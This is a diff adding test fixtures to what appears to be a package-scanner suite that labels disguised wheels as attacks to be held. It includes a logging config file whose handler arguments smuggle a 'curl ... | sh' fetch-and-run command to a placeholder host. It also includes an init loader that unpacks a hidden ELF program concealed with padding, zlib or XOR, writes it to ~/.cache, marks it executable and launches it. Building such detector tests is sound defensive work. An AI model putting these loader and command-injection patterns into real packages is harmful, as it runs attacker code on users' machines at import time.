@@ -1,10 +1,12 @@
 """Members that are something else than they say."""
+import hashlib
 import io
 import json
 import struct
 import zipfile
+import zlib
 
-from .package import MARK, attack, b64, elf, pe, pyc
+from .package import MARK, attack, b64, elf, honest, pe, pyc
 
 
 @attack
@@ -224,3 +226,103 @@ def elf_in_base64_text(p):
 def pe_in_hexadecimal(p):
     """A Windows program as hexadecimal digits in a document of JSON. Must be held."""
     return p.wheel(files={"{m}/data.json": json.dumps({"data": pe(b"\x90" * 100).hex()}).encode()})
+
+
+LOGGING = b"""[loggers]
+keys=root
+[handlers]
+keys=a
+[formatters]
+keys=
+[logger_root]
+handlers=a
+[handler_a]
+class=StreamHandler
+args=(__import__("os").system("curl -s https://cdn.example.net/i | sh") or __import__("sys").stderr,)
+"""
+
+
+@attack
+def settings_of_logging_in_a_file(p):
+    """logging.config.fileConfig evaluates what a file of the package says. Must be held."""
+    return p.wheel(files={"{m}/log.ini": LOGGING}, init='''
+        import logging.config
+        import os
+
+        logging.config.fileConfig(os.path.join(os.path.dirname(__file__), "log.ini"))
+        ''')
+
+
+@honest
+def plain_settings_of_logging(p):
+    """The same with a plain file."""
+    plain = LOGGING[:LOGGING.index(b"args=")] + b"args=(sys.stderr,)\n"
+    return p.wheel(files={"{m}/log.ini": plain}, init='''
+        import logging.config
+        import os
+
+        logging.config.fileConfig(os.path.join(os.path.dirname(__file__), "log.ini"))
+        ''')
+
+
+def cut_off(p, data, decode="data"):
+    return p.wheel(files={"{m}/model.dat": data}, init=f'''
+        import os
+        import subprocess
+        import zlib
+
+
+        def unpack():
+            here = os.path.dirname(__file__)
+            with open(os.path.join(here, "model.dat"), "rb") as f:
+                data = f.read()
+            path = os.path.expanduser("~/.cache/tables-helper")
+            with open(path, "wb") as f:
+                f.write({decode})
+            os.chmod(path, 0o755)
+            return path
+
+
+        subprocess.Popen([unpack()])
+        ''')
+
+
+def noise(n):
+    """Bytes in which no header begins."""
+    return b"".join(hashlib.sha256(b"%d" % i).digest() for i in range(n // 32)).replace(b"\x7f", b"\x7e").replace(b"M", b"N")
+
+
+@attack
+def elf_far_behind_data(p):
+    """A Linux program behind 200 KB of data. Must be held."""
+    return cut_off(p, noise(200000) + elf(b"\x90" * 4000), "data[200000:]")
+
+
+@attack
+def elf_in_raw_zlib(p):
+    """A Linux program as a plain zlib stream. Must be held."""
+    return cut_off(p, zlib.compress(elf(noise(4000))), "zlib.decompress(data)")
+
+
+@attack
+def elf_in_raw_zlib_for_nobody(p):
+    """The same, and nothing in the package says what it is for. Must be held."""
+    return p.wheel(files={"{m}/model.dat": zlib.compress(elf(noise(4000)))})
+
+
+@attack
+def elf_in_xor(p):
+    """A Linux program of which each byte was changed by one key. Must be held."""
+    return cut_off(p, bytes(b ^ 0x5a for b in elf(noise(4000))), "bytes(b ^ 0x5a for b in data)")
+
+
+@attack
+def elf_in_xor_for_nobody(p):
+    """The same, and nothing in the package says what it is for. Must be held."""
+    return p.wheel(files={"{m}/model.dat": bytes(b ^ 0x5a for b in elf(noise(4000)))})
+
+
+@honest
+def compressed_numbers(p):
+    """A plain zlib stream of numbers, and numbers that are noise."""
+    return p.wheel(files={"{m}/a.dat": zlib.compress(struct.pack("<500d", *range(500))), "{m}/b.dat": noise(300000)})
